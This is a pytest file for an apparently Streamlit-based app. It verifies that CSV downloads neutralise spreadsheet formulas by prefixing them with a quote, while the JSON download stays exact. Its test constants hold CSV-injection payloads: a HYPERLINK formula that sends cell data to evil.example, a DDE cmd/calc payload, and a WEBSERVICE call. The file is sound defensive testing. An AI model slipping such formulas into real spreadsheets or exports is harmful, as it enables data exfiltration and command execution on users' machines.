"""CSV downloads hold no live formula (#40, finding 4): a cell that begins with `=`, `+`, `-`, `@`, a
tab or a carriage return is written after `'` (OWASP, CSV injection); numbers stay numbers, negative
ones too; the JSON download stays exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from backend import SERVER, fresh_url
from helpers import scenario
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from memory_core import MemoryService, make_engine, parse, replay
from memory_core.views import csv_safe

ROOT = Path(__file__).resolve().parent.parent

LINK = '=HYPERLINK("http://evil.example/x?d="&A2,"Click")'
CALC = "+cmd|' /C calc'!A0"
SOURCE = '=WEBSERVICE("http://evil.example/")'
EXCERPT = "@SUM(1+1)"


@pytest.mark.backend_free
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote_and_numbers_stay_numbers():
    for text in (LINK, CALC, "=1+1", "-2+3", "-40", EXCERPT, "\t=1+1", "\r=1+1"):
        assert csv_safe.cell(text) == "'" + text
    for kept in ("Globex", "a=b", " =1", "", "'=1", None, -2.5, -3, 0.9, True):
        assert csv_safe.cell(kept) is kept
    table = pd.DataFrame({"=Name": [LINK, "Globex"], "Log-odds L": [-1.329, 2.0], "Count": [-1, 3]})
    assert csv_safe.csv_text(table) == (
        '\'=Name,Log-odds L,Count\n"\'=HYPERLINK(""http://evil.example/x?d=""&A2,""Click"")",-1.329,-1\nGlobex,2.0,3\n'
    )


def _evil_memory(url: str) -> None:
    said = {
        "do": "record",
        "turn": "t1",
        "origin": "document",
        "source": SOURCE,
        "excerpt": EXCERPT,
        "claims": [
            {
                "graph": "world",
                "subject": {"name": LINK, "kind": "organization"},
                "relation": "headquartered_in",
                "object": {"name": CALC, "kind": "place"},
            },
            {"graph": "world", "subject": {"name": "Globex", "kind": "organization"}, "relation": "sum",
             "object": {"value": "=1+1"}},
            {"graph": "world", "subject": {"name": "Globex", "kind": "organization"}, "relation": "diff",
             "object": {"value": "-2+3"}},
        ],
    }  # fmt: skip
    hq = {k: said["claims"][0][k] for k in ("subject", "relation", "object")}  # type: ignore[index]
    events = [
        {"do": "start_run", "run": "r1", "org": "acme", "person": "dana", "workflow": "research"},
        {"do": "open_turn", "run": "r1", "turn": "t1", "request": "Where is it?"},
        said,
        {"do": "end_turn", "turn": "t1", "status": "completed"},
        {"do": "dispute", "org": "acme", "by": "lee", "fact": hq},  # a negative log-odds, a true number
    ]
    engine = make_engine(url)
    engine_, stopped = replay(parse(json.dumps(scenario(events))), MemoryService(engine))
    assert stopped is None and not engine_.state().get("refused")
    engine.dispose()


class _Kept(MediaFileManager):
    """Streamlit's media files of an AppTest run, kept so the test reads what a download holds."""

    last: MediaFileManager | None = None

    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        _Kept.last = self


def downloads(at: AppTest) -> dict[str, bytes]:
    """Each download button's label and the bytes it downloads (a deferred one made as a click does)."""
    mgr = _Kept.last
    assert mgr is not None
    out = {}
    for button in at.get("download_button"):
        proto = button.proto
        url = mgr.execute_deferred(proto.deferred_file_id) if proto.deferred_file_id else proto.url
        file = mgr.read_file(url.rsplit("/", 1)[1])
        assert file is not None, proto.label
        out[proto.label] = file.content
    return out


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_fact_weights_csv_downloads_neutralise_formulas_and_the_json_stays_exact(tmp_path, monkeypatch):
    url = fresh_url("memory_csv") if SERVER else f"sqlite:///{tmp_path / 'evil.db'}"
    _evil_memory(url)
    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", _Kept)
    monkeypatch.setenv("MEMORY_DATABASE_URL", url)
    monkeypatch.setenv("MEMORY_NOTEBOOK_DIR", str(tmp_path / "notebooks"))
    monkeypatch.chdir(ROOT)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/fact_weights_page.py").run()
    facts = at.selectbox(key="w_fact")
    facts.select_index(next(i for i, o in enumerate(facts.options) if o.startswith(LINK))).run()
    assert not at.exception and not at.error
    got = downloads(at)

    table = rows(got["Download CSV"])
    assert table[0][:5] == ["Subject", "Relation", "Object", "Status", "Weight"]
    cells = {c for row in table[1:] for c in row}
    assert {"'" + LINK, "'" + CALC, "'=1+1", "'-2+3"} <= cells
    (disputed,) = [r for r in table[1:] if r[0] == "'" + LINK]
    log_odds = disputed[table[0].index("Log-odds L")]
    assert float(log_odds) < 0  # a true number, negative, written as one (docs/decisions.md#d-csv)
    assert [c for c in cells if c.startswith(csv_safe.FORMULA_STARTS)] == [log_odds]  # the one cell left as it is

    one = rows(got["This fact as CSV"])
    assert one[0][:3] == ["Fact", "Weight", "Status"]
    assert one[1][0].startswith("'" + LINK) and CALC in one[1][0]
    assert one[1][one[0].index("Source")] == "'" + SOURCE
    assert one[1][one[0].index("Excerpt")] == "'" + EXCERPT

    exact = json.loads(got["This fact as JSON"])  # exact: not a quote added
    assert (exact["fact"]["subject"], exact["fact"]["object"]) == (LINK, CALC) and exact["fact"]["log_odds"] < 0
    assert [(s["source"], s["excerpt"]) for s in exact["supports"]] == [(SOURCE, EXCERPT)]
